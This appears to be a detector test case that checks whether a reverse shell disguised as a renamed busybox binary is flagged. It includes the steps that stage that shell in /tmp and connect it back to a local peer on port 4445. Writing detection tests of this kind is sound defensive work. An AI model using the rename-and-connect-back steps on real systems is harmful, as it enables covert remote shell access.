# R15d: a static shell under another name
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4445

#: prepare
. lib/peers.sh
peer 4445; mkdir -p /tmp/r15; cp /bin/busybox /tmp/r15/sh
#: act
. lib/peers.sh
act
/opt/connect-back 4445 /tmp/r15/sh < /dev/null > /dev/null 2>&1
who shell /tmp/r15/sh
await 'at $shell 0 socket:*'
#: clean
rm -rf /tmp/r15
